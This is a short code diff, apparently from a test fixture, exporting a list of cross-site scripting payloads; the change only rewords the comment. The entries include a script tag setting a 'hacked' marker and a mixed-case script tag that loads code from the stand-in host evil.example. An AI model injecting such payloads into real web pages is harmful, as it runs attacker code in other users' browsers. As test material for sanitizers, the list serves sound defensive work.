@@ -1,6 +1,6 @@
 const run = 'globalThis.hacked=1';
 
-/** Texts that try to run code in the page of their readers. */
+/** Texts that try to run code in the page of anyone who reads them. */
 export const payloads: readonly string[] = [
   `<script>${run}</script>`,
   `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
